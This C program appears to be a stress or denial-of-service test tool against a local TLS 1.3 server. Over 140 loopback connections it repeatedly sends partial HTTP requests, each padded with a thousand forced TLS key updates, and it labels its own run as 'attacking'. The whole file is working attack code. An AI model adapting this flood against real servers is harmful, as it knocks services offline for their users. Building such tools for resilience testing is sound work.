// Opens 140 TLS 1.3 connections from a hundred loopback addresses. Each begins a request, then
// updates its keys before each of the next thousand bytes. Everything is sent at once when all
// connections are open. Repeats this until it is killed. Prints `attacking` after the first
// connection.
//
//   renewals PORT

#include <arpa/inet.h>
#include <fcntl.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { ADDRESSES = 100, CONNECTIONS = 140, BYTES = 1000, SEND_MS = 200, LIMIT_S = 5 };

static const char REQUEST[] = "GET /alwayshappy HTTP/1.1\r\nHost: a\r\nX: ";

// What each connection sends, and how much of it has been sent.
static struct {
  int socket;
  char *records;
  long length, sent;
} all[CONNECTIONS];

static int dial(struct sockaddr_in server, long nth) {
  int connection = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in own = {.sin_family = AF_INET};
  own.sin_addr.s_addr = htonl(0x7f010001 + nth % ADDRESSES);
  struct linger reset = {.l_onoff = 1};
  struct timeval limit = {.tv_sec = LIMIT_S};
  setsockopt(connection, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
  setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  if (bind(connection, (struct sockaddr *)&own, sizeof own) == 0 &&
      connect(connection, (struct sockaddr *)&server, sizeof server) == 0) {
    return connection;
  }
  close(connection);
  return -1;
}

// Encrypts everything to send into memory. From then on, the socket is used without `tls`.
static void prepare(SSL_CTX *context, int nth) {
  SSL *tls = SSL_new(context);
  SSL_set_fd(tls, all[nth].socket);
  if (SSL_connect(tls) == 1) {
    BIO *memory = BIO_new(BIO_s_mem());
    SSL_set0_wbio(tls, memory);
    SSL_write(tls, REQUEST, sizeof REQUEST - 1);
    for (int i = 0; i < BYTES; i++) {
      SSL_key_update(tls, SSL_KEY_UPDATE_NOT_REQUESTED);
      SSL_write(tls, "x", 1);
    }
    char *records;
    all[nth].length = BIO_get_mem_data(memory, &records);
    all[nth].records = malloc(all[nth].length);
    memcpy(all[nth].records, records, all[nth].length);
    fcntl(all[nth].socket, F_SETFL, O_NONBLOCK);
  }
  SSL_set_quiet_shutdown(tls, 1);
  SSL_free(tls);
}

int main(int count, char **arguments) {
  if (count != 2) return 2;
  signal(SIGPIPE, SIG_IGN);
  struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons(atoi(arguments[1]))};
  server.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  SSL_CTX *context = SSL_CTX_new(TLS_client_method());
  for (long opened = 0;;) {
    memset(all, 0, sizeof all);
    for (int i = 0; i < CONNECTIONS; i++, opened++) {
      all[i].socket = dial(server, opened);
      if (all[i].socket < 0) continue;
      if (opened == 0) {
        puts("attacking");
        fflush(stdout);
      }
      prepare(context, i);
    }
    for (int ms = 0; ms < SEND_MS; ms++) {
      for (int i = 0; i < CONNECTIONS; i++) {
        long left = all[i].length - all[i].sent;
        if (left == 0) continue;
        ssize_t sent = send(all[i].socket, all[i].records + all[i].sent, left, 0);
        if (sent > 0) all[i].sent += sent;
      }
      usleep(1000);
    }
    for (int i = 0; i < CONNECTIONS; i++) {
      if (all[i].socket >= 0) close(all[i].socket);
      free(all[i].records);
    }
  }
}
